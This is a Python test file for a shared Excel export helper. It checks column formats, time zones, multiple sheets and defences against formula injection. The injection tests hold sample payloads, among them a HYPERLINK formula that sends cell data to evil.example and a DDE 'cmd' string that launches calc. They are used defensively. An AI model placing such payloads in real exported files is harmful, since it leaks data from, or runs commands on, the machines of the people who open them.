"""The shared Excel exporter: headers, formats, time zones, several sheets, text never a formula."""

import ast
from datetime import UTC, date, datetime
from decimal import Decimal
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import load_workbook

from opc_community.core.excel import Column, Sheet, workbook_bytes, xlsx_response

ROWS = [{"name": "张三", "amount": Decimal("1000.50"), "on": date(2026, 10, 8),
         "at": datetime(2026, 10, 8, 1, 30, tzinfo=UTC)}]
COLUMNS = [
    Column("名称", lambda r: r["name"]),
    Column("金额", lambda r: r["amount"], "money"),
    Column("日期", lambda r: r["on"], "date"),
    Column("时间", lambda r: r["at"], "datetime"),
]


def test_a_workbook_with_typed_columns_and_two_sheets():
    response = xlsx_response("report", Sheet("明细", COLUMNS, ROWS), Sheet("汇总", COLUMNS[:1], [{"name": "合计"}]))
    assert response["Content-Disposition"] == 'attachment; filename="report.xlsx"'
    book = load_workbook(BytesIO(response.content))
    assert book.sheetnames == ["明细", "汇总"]
    sheet = book["明细"]
    assert [c.value for c in sheet[1]] == ["名称", "金额", "日期", "时间"]
    name, amount, on, at = sheet[2]
    assert (name.value, amount.value) == ("张三", 1000.5)
    assert amount.number_format == '"¥"#,##0.00'
    assert on.value.date() == date(2026, 10, 8) and on.number_format == "yyyy-mm-dd"
    assert at.value == datetime(2026, 10, 8, 9, 30)  # Asia/Shanghai wall time
    assert sheet.freeze_panes == "A2"


# --- Formula injection (OWASP "CSV Injection"): text is never a live formula --------------------------------

#: One value for each leading character that makes a spreadsheet read text as a formula.
DANGEROUS = {
    "equals": '=HYPERLINK("http://evil.example/?d="&A1,"点此查看")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1,2)",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
}


def _read_back(*values) -> list:
    sheet = load_workbook(BytesIO(workbook_bytes(Sheet("表", [Column("值", lambda v: v)], values)))).active
    return [row[0] for row in sheet.iter_rows(min_row=2)]


@pytest.mark.parametrize("text", DANGEROUS.values(), ids=DANGEROUS.keys())
def test_text_starting_like_a_formula_is_written_as_text(text):
    (cell,) = _read_back(text)
    assert cell.data_type == "s"  # a string cell, not "f" (formula)
    assert cell.value == text.replace("\r", "\n")  # XML reads a carriage return back as a line feed
    assert cell.quotePrefix  # Excel keeps it text when someone edits the cell


def test_numbers_stay_numbers_and_other_text_is_plain():
    negative, integer, plain, error_code, control = _read_back(Decimal("-1200.50"), -3, "张三", "#N/A", "a\x00b")
    assert (negative.data_type, negative.value) == ("n", -1200.5)  # a negative amount is a number
    assert integer.data_type == "n" and integer.value == -3
    assert (plain.data_type, plain.value, plain.quotePrefix) == ("s", "张三", False)
    assert error_code.data_type == "s"  # not an Excel error value
    assert control.value == "ab"  # characters Excel refuses are dropped, not a 500


def test_only_the_shared_helper_writes_workbooks():
    """Every export goes through :func:`workbook_bytes`: openpyxl is imported nowhere else, except
    ``load_workbook`` to read staff's uploaded sheets."""
    root = Path(__file__).resolve().parents[2]
    readers = {"scoring/services/input_sheets.py": {"load_workbook"}, "resources/services/voucher_imports.py": {"load_workbook"}}
    tops = [top for top in root.iterdir() if not top.name.startswith(".") and top.name != "tests"]
    offenders = []
    for path in (found for top in tops for found in ([top] if top.is_file() else top.rglob("*.py"))):
        relative = path.relative_to(root).as_posix()
        if path.suffix != ".py" or relative == "opc_community/core/excel.py":
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Import) and any(a.name.split(".")[0] == "openpyxl" for a in node.names):
                offenders.append(relative)
            if (isinstance(node, ast.ImportFrom) and (node.module or "").split(".")[0] == "openpyxl"
                    and {a.name for a in node.names} - readers.get(relative, set())):
                offenders.append(relative)
    assert offenders == []
